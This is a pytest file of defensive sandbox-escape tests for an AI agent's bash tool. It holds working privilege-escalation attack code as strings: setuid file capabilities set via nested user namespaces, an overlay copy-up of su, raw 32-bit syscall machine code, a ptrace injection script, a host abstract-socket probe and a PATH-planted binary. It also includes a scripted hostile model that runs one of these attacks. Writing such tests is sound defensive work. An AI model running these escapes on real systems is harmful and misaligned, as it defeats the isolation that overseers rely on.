"""More attacks on the bash tool, run for real in every mode, as root and as ``nobody``: file
capabilities, nested user namespaces, overlay copy-up, 32-bit calls, calls newer than libseccomp,
another process made to do what the filter refuses, inherited setgid, the host's local sockets."""

from __future__ import annotations

import errno
import json
import os
import platform
import socket
import struct
import subprocess
import uuid
from pathlib import Path

import pytest
import test_sandbox_attacks as first
from test_sandbox_attacks import ALL_MODES, NOBODY, _bash, _privileged_or_devices, run_as

from agentlib.sandbox import seccomp

caller, home = first.caller, first.home  # the fixtures: root, and a normal user with its folder

needs_seccomp = pytest.mark.skipif(seccomp.program() is None, reason="no libseccomp here")
x86_64_only = pytest.mark.skipif(platform.machine() != "x86_64", reason="x86_64 machine code")
CAPABILITY = "security.capability"
# VFS_CAP_REVISION_2 with the effective flag, permitted = CAP_SETUID: as good as a setuid bit
SETUID_CAPABILITY = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)


def _program(folder: Path, who: str, name: str = "prog") -> Path:
    """A copy of /bin/true in the workspace, owned by ``who`` ("root" or "user")."""
    path = folder / name
    path.write_bytes(Path("/bin/true").read_bytes())
    path.chmod(0o755)
    if who == "user" and os.geteuid() == 0:
        os.chown(path, NOBODY, NOBODY)
    return path


def _capability(path: Path) -> bytes | None:
    try:
        return os.getxattr(path, CAPABILITY, follow_symlinks=False)
    except OSError:  # ENODATA: none; ENOTSUP: a file system without them
        return None


# -- file capabilities and nested user namespaces -----------------------------------------------
GIVE_CAPABILITY = (
    "import os, sys\n"
    "try:\n"
    f"    os.setxattr('prog', {CAPABILITY!r}, {SETUID_CAPABILITY!r}); print('set')\n"
    "except OSError as exc:\n"
    "    print(exc.strerror)\n"
)


@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_no_file_capability_can_be_given_directly_or_from_a_nested_namespace(caller, home, mode):
    _program(home, caller)
    (home / "cap.py").write_text(GIVE_CAPABILITY)
    # as root under unshare, the nested namespace's root was root's uid on the host: the kernel
    # wrote a real cap_setuid, and every local user running prog became root
    out = run_as(caller, _bash, str(home), mode, "python3 cap.py; unshare -r python3 cap.py")
    assert _capability(home / "prog") is None, out
    assert out.splitlines()[0] == "Operation not supported", out  # the filter's answer


@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_no_user_namespace_can_be_made_inside_the_sandbox(caller, home, mode):
    by_hand = "import ctypes; c = ctypes.CDLL(None, use_errno=True)"
    by_hand += "; print('unshare', c.unshare(0x10000000), ctypes.get_errno())"  # CLONE_NEWUSER
    out = run_as(caller, _bash, str(home), mode, f'unshare -r id -u; python3 -c "{by_hand}"')
    assert "unshare failed" in out and "0" not in out.splitlines(), out  # never root of its own
    # EPERM from the filter; ENOSPC from the outer namespace's limit (unshare, bubblewrap)
    assert out.splitlines()[-1] in (f"unshare -1 {errno.EPERM}", f"unshare -1 {errno.ENOSPC}"), out


@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_an_overlay_copy_up_cannot_make_a_setuid_file(caller, home, mode):
    # the kernel copies /usr/bin/su up with its mode: no chmod for the filter to see
    attack = (
        "mkdir u w m; unshare -rm sh -c 'mount -t overlay o "
        "-o lowerdir=/usr/bin,upperdir=u,workdir=w m && touch m/su'; ls -ln u"
    )
    out = run_as(caller, _bash, str(home), mode, attack)
    assert "-rws" not in out and "setuid/setgid bit removed" not in out, out


def test_the_sweep_removes_a_file_capability_left_in_the_workspace(tmp_path):
    prog = _program(tmp_path, "root")
    kept = _program(tmp_path, "root", "data")
    kept.chmod(0o644)  # not a program: nothing can run it, and the sweep does not look
    try:
        for path in (prog, kept):
            os.setxattr(path, CAPABILITY, SETUID_CAPABILITY)
    except OSError as exc:
        pytest.skip(f"setting a file capability needs root and a file system with them: {exc}")
    out = _bash(str(tmp_path), "none", "true")
    assert "file capabilities removed from 1 file(s) (prog)" in out, out
    assert _capability(prog) is None
    assert os.access(prog, os.X_OK)  # the program itself is kept


def _hostile_model_run(root: str, mode: str) -> str:
    """A scripted model that plants the capability attack with write_file and runs it with bash."""
    from agentlib import Workspace, agent_loop, s02_tools
    from agentlib.offline import Script, call, offline_client, say

    script = Script(
        call("write_file", path="cap.py", content=GIVE_CAPABILITY),
        call("bash", command="unshare -r python3 cap.py; python3 cap.py"),
        say("done"),
    )
    client, model = offline_client(script)
    tools = s02_tools(Workspace(root, isolation=mode))
    state = agent_loop([{"role": "user", "content": "go"}], client=client, model=model, tools=tools)
    return json.dumps(state.messages, default=str)


@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_scripted_model_through_the_agent_loop_gives_no_capability(caller, home, mode):
    _program(home, caller)
    transcript = run_as(caller, _hostile_model_run, str(home), mode)
    assert "unshare failed" in transcript and "Operation not supported" in transcript
    assert _capability(home / "prog") is None


# -- calls the filter must read however they are made -------------------------------------------
I386_CHMOD = """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]
page = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)  # MAP_32BIT
ctypes.memmove(page + 2048, b"prog\\0", 5)
# push rbx; mov eax, 15 (chmod in the i386 table); mov ebx, path; mov ecx, 04755; int 0x80; pop rbx
code = (b"\\x53\\xb8" + (15).to_bytes(4, "little") + b"\\xbb" + (page + 2048).to_bytes(4, "little")
        + b"\\xb9" + (0o4755).to_bytes(4, "little") + b"\\xcd\\x80\\x5b\\xc3")
ctypes.memmove(page, code, len(code))
print("returned", ctypes.CFUNCTYPE(ctypes.c_long)(page)())
"""


@x86_64_only
@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_32_bit_system_call_is_not_a_way_around_the_filter(caller, home, mode):
    _program(home, caller)
    (home / "i386.py").write_text(I386_CHMOD)
    out = run_as(caller, _bash, str(home), mode, 'python3 i386.py; echo "status $?"')
    assert "status 159" in out, out  # SIGSYS: a call of another architecture kills the process
    assert _privileged_or_devices(home) == []


@pytest.fixture
def old_libseccomp(monkeypatch):
    """As with a libseccomp older than the kernel: the newest calls have no name it knows."""
    known = seccomp._resolve
    monkeypatch.setattr(
        seccomp, "_resolve", lambda lib, call: -1 if call in seccomp._NUMBERS else known(lib, call)
    )
    seccomp.program.cache_clear()
    seccomp._prepared.cache_clear()
    yield
    seccomp.program.cache_clear()
    seccomp._prepared.cache_clear()


NEWEST_CALLS = """
import ctypes
c = ctypes.CDLL(None, use_errno=True)
ctypes.set_errno(0)
done = c.syscall(452, -100, b"prog", 0o4755, 0)  # fchmodat2 (Linux 6.6)
print("fchmodat2", done, ctypes.get_errno())
ctypes.set_errno(0)
done = c.syscall(463, -100, b"prog", 0, b"user.x", 0, 0)  # setxattrat (Linux 6.13)
print("setxattrat", done, ctypes.get_errno())
"""


@needs_seccomp
@pytest.mark.skipif(
    not getattr(seccomp, "_SHARED_TABLE", True), reason="these numbers are of the unified table"
)
@pytest.mark.parametrize("mode", ALL_MODES)
def test_calls_newer_than_libseccomp_are_refused_by_their_number(
    caller, home, mode, old_libseccomp
):
    _program(home, caller)
    (home / "newest.py").write_text(NEWEST_CALLS)
    out = run_as(caller, _bash, str(home), mode, "python3 newest.py")
    assert _privileged_or_devices(home) == [] and "setuid/setgid bit removed" not in out, out
    assert f"fchmodat2 -1 {errno.EPERM}" in out, out
    refused = {
        f"setxattrat -1 {code}" for code in (errno.EOPNOTSUPP, errno.ENOSYS)
    }  # ENOSYS: older kernel
    assert refused & set(out.splitlines()), out


# -- what the filter does not bind: other processes, inherited bits ------------------------------
INJECT = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, POKE, STEP = 16, 17, 12, 13, 5, 9
pid, path = int(sys.argv[1]), os.path.abspath("prog").encode() + b"\\0"
Regs = ctypes.c_ulonglong * 27  # user_regs_struct: rsi 13, rdi 14, orig_rax 15, rip 16, rsp 19
if libc.ptrace(ATTACH, pid, None, None) != 0:
    sys.exit("attach refused")
os.waitpid(pid, 0)
saved = Regs()
libc.ptrace(GETREGS, pid, None, ctypes.byref(saved))
regs = Regs(*saved)
where = (saved[19] - 4096) & ~7  # below its stack pointer, past the red zone
for i in range(0, len(path), 8):
    word = int.from_bytes(path[i : i + 8].ljust(8, b"\\0"), "little")
    libc.ptrace(POKE, pid, ctypes.c_void_p(where + i), ctypes.c_void_p(word))
# it sleeps in a system call: the two bytes before rip are a `syscall` instruction; run chmod there
regs[16], regs[15], regs[10], regs[14], regs[13] = saved[16] - 2, 2**64 - 1, 90, where, 0o4755
libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
libc.ptrace(STEP, pid, None, None)
os.waitpid(pid, 0)
libc.ptrace(SETREGS, pid, None, ctypes.byref(saved))
libc.ptrace(DETACH, pid, None, None)
print("mode during the call", oct(os.stat("prog").st_mode & 0o7777))
"""


@x86_64_only
@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_traced_process_sets_the_bit_for_a_users_command_only_unisolated(caller, home, mode):
    _program(home, caller)
    (home / "inject.py").write_text(INJECT)
    as_user = {}
    if caller == "user" and os.geteuid() == 0:
        as_user = {"user": NOBODY, "group": NOBODY, "extra_groups": []}
    victim = subprocess.Popen(["sleep", "60"], **as_user)  # any other process of yours
    try:
        out = run_as(caller, _bash, str(home), mode, f"python3 inject.py {victim.pid}")
    finally:
        victim.kill()
        victim.wait()
    traced = mode == "none" and caller == "user"  # root's command has no capability to trace
    assert ("mode during the call 0o4755" in out) == traced, out
    assert ("attach refused" in out) == (not traced), out
    if traced:  # not the filter but the sweep after the call holds, in the workspace
        assert "setuid/setgid bit removed from 1 file(s) (prog)" in out
    assert _privileged_or_devices(home) == []


@needs_seccomp
@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_folder_inherits_the_setgid_bit_of_its_parent_and_a_file_never_does(caller, home, mode):
    os.chmod(home, 0o2755)  # a shared group folder, say
    attack = (
        "chmod g+s . 2>&1 | grep -o 'not permitted'; mkdir sub; touch sub/f; stat -c %A sub sub/f"
    )
    out = run_as(caller, _bash, str(home), mode, attack)
    assert out.splitlines() == ["not permitted", "drwxr-sr-x", "-rw-r--r--"], out


# -- local sockets ---------------------------------------------------------------------------------
CONNECT = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(b"\\0" + sys.argv[1].encode())
    print("connected")
except OSError as exc:
    print("refused", exc.strerror)
"""


@pytest.mark.skipif(not hasattr(socket, "AF_UNIX"), reason="no unix sockets")
@pytest.mark.parametrize("mode", ALL_MODES)
def test_which_modes_reach_an_abstract_socket_of_the_host(caller, home, mode):
    name = f"agentlib-probe-{uuid.uuid4().hex}"  # where a desktop's D-Bus and X11 listen
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + name)
    listener.listen(1)
    (home / "connect.py").write_text(CONNECT)
    try:
        out = run_as(caller, _bash, str(home), mode, f"python3 connect.py {name}")
    finally:
        listener.close()
    assert out == ("refused Connection refused" if mode == "bwrap" else "connected"), out


# -- what a command leaves for the next call --------------------------------------------------------
@first.needs_unshare
def test_a_program_planted_early_in_path_runs_in_the_next_unshare_call(tmp_path, monkeypatch):
    # unisolated or under unshare, a command may write where PATH looks first (~/.local/bin)
    planted = tmp_path / "bin"
    planted.mkdir()
    marker = tmp_path / "ran"
    fake = planted / "unshare"
    fake.write_text(f'#!/bin/sh\necho planted >> {marker}\nexec /usr/bin/unshare "$@"\n')
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{planted}:{os.environ['PATH']}")
    _bash(str(tmp_path), "none", "true")
    assert not marker.exists()  # unisolated, nothing is looked up on PATH
    _bash(str(tmp_path), "unshare", "true")
    assert marker.read_text() == "planted\nplanted\n"  # both unshares: outside the sandbox
